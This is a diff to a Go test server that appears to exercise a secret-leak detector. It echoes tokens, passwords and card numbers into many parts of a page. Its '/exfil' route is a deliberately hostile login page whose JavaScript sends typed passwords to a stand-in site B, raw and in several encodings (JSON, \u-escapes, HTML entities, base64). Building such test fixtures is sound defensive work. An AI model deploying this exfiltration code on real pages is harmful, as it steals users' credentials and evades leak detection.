@@ -123,11 +123,11 @@ func handlerA(s *site, w http.ResponseWriter, r *http.Request) {
 		q := r.URL.Query()
 		tok, pw, card := q.Get("token"), q.Get("password"), q.Get("card")
 		e := html.EscapeString
-		// The page echoes every value into its title, text, a field's value,
-		// a link, the console and a thrown error.
+		// The page echoes every value into its title, text, an attribute,
+		// a field's value, a link, the console and a thrown error.
 		page(w, "Account "+e(pw), fmt.Sprintf(`<h1>Welcome</h1>
 <p id="tok">Your API token is %s</p>
-<p>Your password is %s and your card %s.</p>
+<p title="%s">Your password is %s and your card %s.</p>
 <label>Token again <input type="text" value="%s"></label>
 <a href="/profile?password=%s&t=%s">Profile %s</a>
 <pre>%s</pre>
@@ -139,12 +139,14 @@ console.error("card declined: " + v.card + " for " + v.pw);
 setTimeout(() => { throw new Error("token rejected: " + v.tok); }, 0);
 </script>
 <script>throw new Error("password rejected: " + v.pw);</script>`,
-			e(tok), e(pw), e(card), e(tok), e(url.QueryEscape(pw)), e(url.QueryEscape(tok)), e(card), e(pw+"\n"+tok), tok, pw, card))
+			e(tok), e(pw), e(pw), e(card), e(tok), e(url.QueryEscape(pw)), e(url.QueryEscape(tok)), e(card), e(pw+"\n"+tok), tok, pw, card))
 	case "/exfil":
 		// A hostile page on A: whatever is typed into its password field is
-		// sent to site B as an image URL, a fetch body, a beacon and a
-		// frame on a WebSocket opened before anything was typed; and to B's
-		// https twin as a fetch body and a wss:// frame.
+		// sent to site B as an image URL, a fetch body (as it is, as
+		// JSON.stringify writes it, every character \u-escaped, every
+		// character an HTML reference), a beacon and a frame on a WebSocket
+		// opened before anything was typed; and to B's https twin as a
+		// fetch body and a wss:// frame.
 		page(w, "Exfil", fmt.Sprintf(`<h1>Log in</h1>
 <label>Password <input id="pw" type="password"></label>
 <button id="go" type="button">Continue</button>
@@ -158,6 +160,10 @@ function send() {
   if (!v) return;
   new Image().src = B + "/img?p=" + encodeURIComponent(v);
   fetch(B + "/fetch", {method: "POST", mode: "no-cors", body: v}).catch(() => {});
+  fetch(B + "/json", {method: "POST", mode: "no-cors", body: JSON.stringify({v})}).catch(() => {});
+  const codes = Array.from(v, c => c.charCodeAt(0));
+  fetch(B + "/json-escaped", {method: "POST", mode: "no-cors", body: '{"v":"' + codes.map(n => "\\u" + n.toString(16).padStart(4, "0")).join("") + '"}'}).catch(() => {});
+  fetch(B + "/html", {method: "POST", mode: "no-cors", body: "<p>" + codes.map(n => "&#" + n + ";").join("") + "</p>"}).catch(() => {});
   try { navigator.sendBeacon(B + "/beacon", btoa(v)); } catch (e) {}
   try { ws.send(v); } catch (e) {}
   fetch(BS + "/fetch", {method: "POST", mode: "no-cors", body: v}).catch(() => {});
